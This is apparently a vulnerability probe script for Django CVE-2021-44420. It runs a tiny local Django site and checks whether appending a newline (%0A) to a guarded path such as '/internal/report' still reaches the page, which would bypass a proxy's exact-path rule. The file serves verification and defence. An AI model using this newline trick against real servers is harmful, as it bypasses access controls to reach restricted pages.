# /// vertice-probe
# id = "PYSEC-2021-439"
# aliases = ["CVE-2021-44420", "GHSA-v6rh-hp5x-86rv"]
# package = "django"
# summary = """\
#   Routes also match an address with a newline at its end, so a rule for exact paths in a server in front is \
#   bypassed."""
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:L/I:L/A:L" }]
# cwe = ["CWE-287"]
# kind = "policy-bypass"
# symbols = ["django.urls.path", "django.urls.re_path", "django.urls.resolve"]
#
# [[affected]]
# package = "django"
# ranges = [{ type = "ECOSYSTEM", events = [
#   { introduced = "2.2" },
#   { fixed = "2.2.25" },
#   { introduced = "3.1" },
#   { fixed = "3.1.14" },
#   { introduced = "3.2" },
#   { fixed = "3.2.10" },
# ] }]
#
# [cases]
# attack = "a path() route answers an address with %0A at its end"
# [cases.variants]
# regular = "the same for re_path() with $"
# converter = "the same after a path converter"
# [cases.controls]
# pages = "pages are found, others give 404"
#
# [test]
# vulnerable = "3.2.9"
# fixed = "3.2.10"
# python = "<3.12"
# ///
"""CVE-2021-44420: a newline at the end of a URL."""

import json
import sys
from wsgiref.util import setup_testing_defaults


def patterns():
    from django.http import HttpResponse
    from django.urls import path, re_path

    return [
        path("internal/report", lambda request: HttpResponse("report")),
        re_path(r"^internal/list$", lambda request: HttpResponse("list")),
        path("item/<int:number>", lambda request, number: HttpResponse("item %d" % number)),
    ]


def call(path, middleware=()):
    """Status, headers and body that a small Django site gives for a path as it comes from the web server."""
    import django
    from django.conf import settings
    from django.core.handlers.wsgi import WSGIHandler

    if not settings.configured:
        settings.configure(
            SECRET_KEY="probe",
            ALLOWED_HOSTS=["*"],
            ROOT_URLCONF=__name__,
            MIDDLEWARE=list(middleware),
            LOGGING_CONFIG=None,
        )
        django.setup()
        globals()["urlpatterns"] = patterns()
    environ = {"PATH_INFO": path}
    setup_testing_defaults(environ)
    seen = []
    body = b"".join(WSGIHandler()(environ, lambda status, headers, *rest: seen.append((status, dict(headers)))))
    return int(seen[0][0].split()[0]), seen[0][1], body.decode()


def judge(address, text):
    """A proxy that guards exactly `address` does not guard the same with a newline."""
    if call(address)[0::2] != (200, text):
        raise RuntimeError("the page is not there")
    status, _, body = call(address + "\n")
    if (status, body) == (200, text):
        return "exploited", "%s%%0A gives the guarded page" % address
    if status == 404 and text not in body:
        return "blocked", "%s%%0A gives 404" % address
    raise RuntimeError("unexpected answer %d %r" % (status, body))


def attack():
    return judge("/internal/report", "report")


def regular():
    return judge("/internal/list", "list")


def converter():
    return judge("/item/7", "item 7")


def pages():
    addresses = ("/internal/report", "/internal/list", "/item/12", "/item/x", "/internal/rep")
    got = [call(address)[0] for address in addresses]
    return ("works" if got == [200, 200, 200, 404, 404] else "broken"), repr(got)


CASES = {"attack": attack, "regular": regular, "converter": converter, "pages": pages}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
